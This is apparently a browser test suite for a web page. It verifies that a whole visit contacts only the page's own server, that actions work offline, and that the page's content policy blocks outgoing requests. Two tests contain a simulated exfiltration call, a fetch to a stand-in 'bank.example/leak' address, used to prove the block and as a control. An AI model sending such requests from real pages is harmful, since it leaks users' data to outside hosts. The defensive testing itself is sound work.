// Nothing leaves for any other host. The oracle is the log of a second server, to which the browser sends all
// that is not for the page's own; a control shows that the log would have noticed.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { openPage, start } from './harness.mjs';

let stage;
before(async () => { stage = await start(); });
after(() => stage?.close());

test('a whole visit asks only the page’s own server, for files, and tells it nothing', async () => {
  const { page, problems, close } = await openPage(stage, { lang: 'zh-CN' });
  await page.locator('#choice').selectOption('cdnow-12108');
  for (const name of ['lateTwice', 'onTime', 'buy']) await page.locator(`[data-act="${name}"]`).click();
  await page.locator('[data-act="view"]').click();
  await page.locator('#sheet [data-product]').first().click();
  await page.getByRole('button', { name: '快进 30 天' }).click();
  await page.getByRole('button', { name: 'English' }).click();
  await page.locator('[data-policy="enterprise"]').click();
  await page.locator('[data-act="signals"]').click();
  await page.waitForTimeout(300);
  assert.deepEqual(stage.elsewhere.asked, []);
  assert.deepEqual([...new Set(stage.site.requests.map(({ method }) => method))], ['GET']);
  const asked = stage.site.requests.map(({ url }) => url);
  assert.deepEqual(asked.filter((url) => url.includes('?') && url !== '/portrait.html?lang=zh-CN'), [], 'no address carries anything');
  assert.deepEqual(asked.filter((url) => !/^\/(portrait\.html\?lang=zh-CN|(pkg|packs|fixtures|subjects|policies|view|i18n|style)\/[\w./-]+|[\w-]+\.(js|svg))$/.test(url)), []);
  assert.deepEqual(problems, []);
  await close();
});

test('after the page has loaded, acts need no network at all', async () => {
  const { page, close } = await openPage(stage, { lang: 'en' });
  const before = stage.site.requests.length;
  await page.context().setOffline(true);
  await page.locator('[data-act="lateTwice"]').click();
  assert.equal(await page.locator('.warning').count(), 1);
  // Another customer and another language are workers of their own.
  await page.locator('#choice').selectOption('cdnow-12108');
  await page.getByRole('button', { name: '中文' }).click();
  assert.equal(await page.locator('#error').count(), 0);
  assert.equal(await page.locator('iframe').count(), 1, 'the worker of this customer in its sealed frame, and no other');
  assert.equal(stage.site.requests.length, before);
  await close();
});

test('the page’s content policy stops what would leave', async () => {
  const { page, close } = await openPage(stage, { lang: 'en' });
  const outcome = await page.evaluate(() => new Promise((resolve) => {
    setTimeout(() => fetch('http://bank.example/leak?x=1').then(() => resolve('sent'), () => resolve('stopped')));
  }));
  assert.equal(outcome, 'stopped');
  assert.deepEqual(stage.elsewhere.asked, []);
  await close();
});

test('control: without the content policy the same request reaches the log', async () => {
  const page = await stage.browser.newPage({ proxy: stage.proxy });
  await page.route(stage.site.url, (route) => route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>no policy</title>' }));
  await page.goto(stage.site.url);
  await page.evaluate(() => fetch('http://bank.example/leak?x=2', { mode: 'no-cors' }).catch(() => null));
  assert.deepEqual(stage.elsewhere.asked, ['http://bank.example/leak?x=2']);
  await page.close();
});
